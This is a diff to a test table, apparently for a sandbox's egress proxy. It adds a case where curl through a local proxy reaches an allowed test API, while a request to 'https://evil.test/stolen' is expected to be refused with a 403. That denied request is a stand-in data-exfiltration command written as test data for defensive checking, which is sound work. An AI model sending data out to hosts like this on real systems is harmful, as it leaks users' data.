@@ -13,6 +13,7 @@ _GRPC = "grpc.forge.test:443"
 _KNOWN = '"authenticated": true'
 # What a refused HTTP request reads: a status, the decision as a header, and the reason with a way on.
 _REFUSED = ("403", "rule-not-allowed", '"hint"')
+_PROXIED = ("curl", "-sS", "-x", "http://127.0.0.1:3128")
 _PIP = "{python} -m pip --disable-pip-version-check --no-cache-dir --retries 0"
 _GIT = "git -c user.name=Agent -c user.email=agent@example.test"
 
@@ -76,6 +77,17 @@ def _simple(
 TABLE: tuple[Row, ...] = (
     _curl("--http1.1"),
     _curl("--http2"),
+    Row(
+        name="curl by the explicit proxy",
+        server="api",
+        allowed=Step(command=(*_PROXIED, f"{_API}/v1/me"), says=(_KNOWN,)),
+        denied=Step(
+            command=(*_PROXIED, "https://evil.test/stolen"),
+            says=("CONNECT tunnel failed, response 403",),
+            fails=True,
+            unseen="/stolen",
+        ),
+    ),
     Row(
         name="wget",
         server="api",
